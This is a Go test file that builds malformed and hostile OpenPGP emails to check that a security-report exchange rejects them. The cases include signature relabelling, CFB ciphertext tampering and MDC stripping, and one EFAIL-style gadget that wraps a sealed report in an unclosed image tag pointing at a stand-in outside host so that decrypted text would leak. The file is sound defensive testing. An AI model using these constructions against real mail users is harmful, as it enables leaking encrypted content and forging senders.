package testmail

import (
	"bytes"
	"strings"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp/packet"

	"almasu/exchange"
)

// pgpMalformed are OpenPGP messages that no honest program writes.
func pgpMalformed() []*Attack {
	// packets are what stands inside the encryption instead of a signed message.
	packets := func(name, comment string, w want, make func(m *maker, entity []byte) []byte) *Attack {
		return under(openPGP{}, Malformed, name, comment, w, func(m *maker, s scheme, honest bool) []byte {
			entity := m.entity(m.report("soc-alfa"))
			if honest {
				return m.mail(s.signed(m, entity, "soc-alfa/current"))
			}
			return m.mail(pgpMIME(m.armour(m.encrypt(make(m, entity), SelfID))))
		})
	}
	// outside changes the encrypted message itself.
	outside := func(name, comment string, w want, change func(m *maker, sealed, signed []byte) []byte) *Attack {
		return under(openPGP{}, Malformed, name, comment, w, func(m *maker, s scheme, honest bool) []byte {
			signed := m.message(m.entity(m.report("soc-alfa")), "soc-alfa/current")
			sealed := m.encrypt(signed, SelfID)
			if !honest {
				sealed = change(m, sealed, signed)
			}
			return m.mail(pgpMIME(m.armour(sealed)))
		})
	}
	odd := func(change func(*packet.Signature)) func(m *maker, entity []byte) []byte {
		return func(m *maker, entity []byte) []byte {
			return bytes.Join([][]byte{m.onePass("soc-alfa/current", true), m.literal(entity), m.signature("soc-alfa/current", entity, change)}, nil)
		}
	}
	alfa := func(m *maker, content []byte) []byte { return m.message(content, "soc-alfa/current") }
	notEncrypted := openly.with(func(w *want) {
		w.signature, w.covers, w.signer = exchange.SignatureValid, exchange.CoversAll, "soc-alfa/current"
	})
	notEncrypted.participant = "soc-alfa"
	return []*Attack{
		packets("two-literals", "an unsigned literal behind the signed one", unopened, func(m *maker, e []byte) []byte { return append(alfa(m, note()), m.literal(e)...) }),
		packets("literal-first", "an unsigned literal before the signed one", unopened, func(m *maker, e []byte) []byte { return append(m.literal(e), alfa(m, note())...) }),
		packets("compressed-beside", "a compressed packet beside the signed literal", unopened, func(m *maker, e []byte) []byte {
			return append(alfa(m, note()), m.keep(compressed(m.literal(e)))...)
		}),
		packets("key-inside", "a key among the packets", unopened, func(m *maker, e []byte) []byte {
			return append(m.dearmour(m.key("stranger/current").Public), alfa(m, e)...)
		}),
		packets("announced", "a signature is announced and left out", broken.by("-"), func(m *maker, e []byte) []byte {
			return append(m.onePass("soc-alfa/current", true), m.literal(e)...)
		}),
		packets("other-content", "the signature is over another content", broken, func(m *maker, e []byte) []byte {
			return append(m.literal(e), m.signature("soc-alfa/current", note(), nil)...)
		}),
		packets("signature-renamed", "a stranger's signature under SOC Alfa's key ID", broken, func(m *maker, e []byte) []byte {
			from, to := m.keyEntity("stranger/current"), m.keyEntity("soc-alfa/current")
			renamed := bytes.ReplaceAll(m.signature("stranger/current", e, nil), from.Fingerprint, to.Fingerprint)
			return append(m.literal(e), bytes.ReplaceAll(renamed, from.Fingerprint[12:], to.Fingerprint[12:])...)
		}),
		packets("standalone", "a signature over nothing (type 2)", broken, odd(func(s *packet.Signature) { s.SigType = 2 })),
		packets("certification", "a certification instead of a signature over a document", broken, odd(func(s *packet.Signature) { s.SigType = packet.SigTypePositiveCert })),
		packets("timestamp", "a timestamp signature (type 0x40)", broken, odd(func(s *packet.Signature) { s.SigType = 0x40 })),
		packets("critical-notation", "a critical notation nobody knows", broken, odd(func(s *packet.Signature) {
			s.Notations = append(s.Notations, &packet.Notation{Name: "unknown@elsewhere.example", Value: []byte("x"), IsCritical: true, IsHumanReadable: true})
		})),
		packets("before-its-key", "a signature older than its key", broken, odd(func(s *packet.Signature) { s.CreationTime = s.CreationTime.AddDate(-3, 0, 0) })),
		packets("signature-expired", "a signature that says it has expired", want{code: exchange.KeyExpired, signature: exchange.SignatureExpired, covers: exchange.CoversAll, signer: "soc-alfa/current"},
			odd(func(s *packet.Signature) { seconds := uint32(5); s.SigLifetimeSecs = &seconds })),
		packets("wrong-by-alfa-right-by-beta", "two signatures: SOC Alfa's wrong, SOC Beta's right", byBeta.with(func(w *want) { w.honest = "" }), func(m *maker, e []byte) []byte {
			return bytes.Join([][]byte{m.literal(e), m.signature("soc-alfa/current", note(), nil), m.signature("soc-beta/current", e, nil)}, nil)
		}),
		packets("encrypted-twice", "an encrypted message in an encrypted message", unopened, func(m *maker, e []byte) []byte { return m.encrypt(alfa(m, e), SelfID) }),
		packets("compressed-deep", "compressed ten times over", unopened, func(m *maker, e []byte) []byte {
			inner := alfa(m, e)
			for range 10 {
				inner = m.keep(compressed(inner))
			}
			return inner
		}),
		packets("mdc-inside", "a modification detection packet among the signed ones", unopened, func(m *maker, e []byte) []byte { return append(alfa(m, e), packetOf(19, make([]byte, 20))...) }),
		packets("unknown-packet", "a critical packet nobody knows", unopened, func(m *maker, e []byte) []byte { return append(alfa(m, e), packetOf(39, []byte("x"))...) }),
		outside("behind", "a literal behind the encrypted packet", unopened, func(m *maker, sealed, _ []byte) []byte { return append(sealed, m.literal(note())...) }),
		outside("two-messages", "a second encrypted message behind the first", unopened, func(m *maker, sealed, _ []byte) []byte {
			return append(sealed, m.encrypt(m.literal(note()), SelfID)...)
		}),
		outside("key-then-signed", "a session key, and then a signed message in clear", unopened, func(m *maker, sealed, signed []byte) []byte {
			keys, _ := m.taken(sealed)
			return append(keys, signed...)
		}),
		outside("not-encrypted", "multipart/encrypted around a signed message in clear", notEncrypted, func(_ *maker, _, signed []byte) []byte { return signed }),
		under(openPGP{}, Malformed, "two-armours", "two messages in one text", unopened, func(m *maker, s scheme, honest bool) []byte {
			text := string(m.armour(m.encrypt(m.message(m.card().json(), "soc-alfa/current"), SelfID)))
			if !honest {
				text += string(m.armour(m.encrypt(m.literal([]byte("{}")), SelfID)))
			}
			return m.mail("Content-Type: text/plain\n\n" + text)
		}),
	}
}

// keyEntity is the public primary key of somebody.
func (m *maker) keyEntity(name string) *packet.PublicKey {
	e, err := m.key(name).entity()
	if err != nil {
		m.keep(nil, err)
		return &packet.PublicKey{}
	}
	return e.PrimaryKey
}

// pgpGadgets are changes of OpenPGP ciphertext (CFB) and of what protects it.
func pgpGadgets() []*Attack {
	sealed := func(name, comment string, w want, change func(m *maker, sealed []byte) []byte) *Attack {
		return under(openPGP{}, Gadgets, name, comment, w, func(m *maker, _ scheme, honest bool) []byte {
			b := m.encrypt(m.message(m.entity(m.report("soc-alfa")), "soc-alfa/current"), SelfID)
			if !honest && m.err == nil {
				b = change(m, b)
			}
			return m.mail(pgpMIME(m.armour(b)))
		})
	}
	return []*Attack{
		sealed("cfb-bit", "one bit of CFB", unopened, func(_ *maker, b []byte) []byte { b[len(b)-100] ^= 1; return b }),
		sealed("cfb-blocks-moved", "blocks of CFB exchanged", unopened, func(_ *maker, b []byte) []byte {
			n := len(b)
			copy(b[n-160:n-144], bytes.Clone(b[n-128:n-112]))
			return b
		}),
		sealed("mdc-bit", "one bit of the modification detection code", unopened, func(_ *maker, b []byte) []byte { b[len(b)-1] ^= 1; return b }),
		sealed("mdc-cut-off", "the modification detection code is cut off", unopened, func(_ *maker, b []byte) []byte { return b[:len(b)-22] }),
		sealed("cut-off", "half of the ciphertext is missing", unopened, func(_ *maker, b []byte) []byte { return b[:len(b)/2] }),
		under(openPGP{}, Gadgets, "no-mdc", "a packet without modification detection (tag 9)", weakCipher, func(m *maker, s scheme, honest bool) []byte {
			entity := m.entity(m.report("soc-alfa"))
			if honest {
				return m.mail(s.signed(m, entity, "soc-alfa/current"))
			}
			return m.mail(pgpMIME(m.craft(entity, handmade{signer: m.key(""), noMDC: true})))
		}),
		under(openPGP{}, Gadgets, "no-mdc-attached", "the same as an attachment", weakCipher, func(m *maker, s scheme, honest bool) []byte {
			document := m.card().json()
			if honest {
				return m.mail(m.attached("application/octet-stream", "report.json.pgp", s.file(m, document, "soc-alfa/current")))
			}
			return m.mail(m.attached("application/octet-stream", "report.json.pgp", m.dearmour(m.craft(document, handmade{signer: m.key(""), noMDC: true}))))
		}),
		sealed("tag-exchanged", "the protected packet relabelled as an unprotected one", weakCipher, func(m *maker, b []byte) []byte {
			keys, data := m.taken(b)
			return append(keys, packetOf(9, data[1:])...)
		}),
	}
}

// taken takes a sealed message apart: the session keys, and the content of the
// encrypted packet.
func (m *maker) taken(b []byte) (keys, data []byte) {
	for r := packet.NewOpaqueReader(bytes.NewReader(b)); ; {
		p, err := r.Next()
		if err != nil {
			m.keep(nil, err)
			return nil, []byte{0}
		}
		if p.Tag == 18 {
			return keys, p.Contents
		}
		keys = append(keys, packetOf(p.Tag, p.Contents)...)
	}
}

// lifted are SOC Alfa's sealed reports in mail of somebody else.
func lifted() []*Attack {
	// file is SOC Alfa's report as a sealed file in the attacker's mail.
	file := func(w want, name, comment string, wrap func(m *maker, s scheme, honest bool, captured part) []byte) []*Attack {
		return both(Lifted, name, comment, w, func(m *maker, s scheme, honest bool) []byte {
			c := m.card()
			c.reporter = "soc-alfa"
			return wrap(m, s, honest, s.attach("report.json", s.file(m, c.json(), "soc-alfa/current")))
		})
	}
	by := func(m *maker, honest bool) string {
		if honest {
			return alfaAddress
		}
		return betaAddress
	}
	plain := func(kind string, around func(m *maker, captured part) []part) func(*maker, scheme, bool, part) []byte {
		return func(m *maker, _ scheme, honest bool, captured part) []byte {
			return m.mailFrom(by(m, honest), string(mixed(kind, around(m, captured)...)))
		}
	}
	words := func(m *maker) part { return textPart("Наш отчёт во вложении") }
	mismatch := asAnother
	var out []*Attack
	for _, group := range [][]*Attack{
		both(Lifted, "re-headed", "the whole sealed mail under SOC Beta's header", mismatch, func(m *maker, s scheme, honest bool) []byte {
			return m.mailFrom(by(m, honest), s.signed(m, m.entity(m.report("soc-alfa")), "soc-alfa/current"))
		}),
		both(Lifted, "re-headed-stranger", "the whole sealed mail under a stranger's header", mismatch.with(func(w *want) { w.claimed = "nobody" }), func(m *maker, s scheme, honest bool) []byte {
			from := "someone@elsewhere.example"
			if honest {
				from = alfaAddress
			}
			return m.mailFrom(from, s.signed(m, m.entity(m.report("soc-alfa")), "soc-alfa/current"))
		}),
		file(mismatch, "attached", "the sealed file attached to SOC Beta's mail", plain("mixed", func(m *maker, c part) []part { return []part{words(m), c} })),
		file(mismatch, "alone", "the sealed file alone in a multipart", plain("mixed", func(_ *maker, c part) []part { return []part{c} })),
		file(mismatch, "nested", "the sealed file two multiparts down", func(m *maker, _ scheme, honest bool, c part) []byte {
			inner := strings.ReplaceAll(strings.ReplaceAll(string(mixed("mixed", words(m), c)), "mixed\"", "deep\""), "--mixed", "--deep")
			return m.mailFrom(by(m, honest), string(mixed("mixed", words(m), asPart([]byte(inner)))))
		}),
		file(mismatch, "beside-html", "between the halves of an image that would carry it off", plain("mixed", func(_ *maker, c part) []part {
			return []part{{"Content-Type: text/html", "<img src=\"http://elsewhere.example/?"}, c, {"Content-Type: text/html", "\">"}}
		})),
		file(mismatch, "alternative", "as an alternative to words of the attacker's", plain("alternative", func(m *maker, c part) []part { return []part{words(m), c} })),
		file(mismatch, "related", "as a resource of a page of the attacker's", plain("related", func(_ *maker, c part) []part {
			return []part{{"Content-Type: text/html", "<p>Отчёт</p>"}, c}
		})),
		both(Lifted, "forwarded", "the whole sealed mail in message/rfc822", openly.with(func(w *want) { w.claimed = "soc-beta" }), func(m *maker, s scheme, honest bool) []byte {
			whole := m.mailFrom(alfaAddress, s.signed(m, m.entity(m.report("soc-alfa")), "soc-alfa/current"))
			if honest {
				return whole
			}
			return m.mailFrom(betaAddress, string(mixed("mixed", words(m), part{"Content-Type: message/rfc822", string(whole)})))
		}),
		both(Lifted, "under-signature", "under SOC Beta's own signature", mismatch, func(m *maker, s scheme, honest bool) []byte {
			content := crlf(s.signed(m, m.entity(m.report("soc-alfa")), "soc-alfa/current"))
			if honest {
				return m.mail(string(content))
			}
			return m.mailFrom(betaAddress, string(s.clear(m, content, "soc-beta/current")))
		}),
		both(Lifted, "inside-own", "inside SOC Beta's own sealed and signed mail", want{code: exchange.RecipientUnbound, signature: exchange.SignatureValid, covers: exchange.CoversAll,
			signer: "soc-beta/current", participant: "soc-beta", claimed: "soc-beta"}, func(m *maker, s scheme, honest bool) []byte {
			content := crlf(s.signed(m, m.entity(m.report("soc-alfa")), "soc-alfa/current"))
			if honest {
				return m.mail(string(content))
			}
			return m.mailFrom(betaAddress, s.signed(m, content, "soc-beta/current"))
		}),
		file(partly.with(func(w *want) { w.signer = "soc-beta/current"; w.claimed = "soc-beta" }), "beside-own", "beside a sealed report of SOC Beta's own", func(m *maker, s scheme, honest bool, c part) []byte {
			if honest {
				return m.mailFrom(alfaAddress, string(mixed("mixed", c)))
			}
			m.at = m.minuteAgo().Add(-time.Minute)
			own := m.card()
			own.reporter, own.id = "soc-beta", own.id+"-own"
			return m.mailFrom(betaAddress, string(mixed("mixed", c, s.attach("own.json", s.file(m, own.json(), "soc-beta/current")))))
		}),
		file(partly, "beside-unsigned", "beside a sealed report nobody signed", func(m *maker, s scheme, honest bool, c part) []byte {
			if honest {
				return m.mailFrom(alfaAddress, string(mixed("mixed", c)))
			}
			own := m.card()
			own.id += "-forged"
			return m.mailFrom(alfaAddress, string(mixed("mixed", s.attach("own.json", s.file(m, own.json(), "")), c)))
		}),
	} {
		out = append(out, group...)
	}
	return out
}
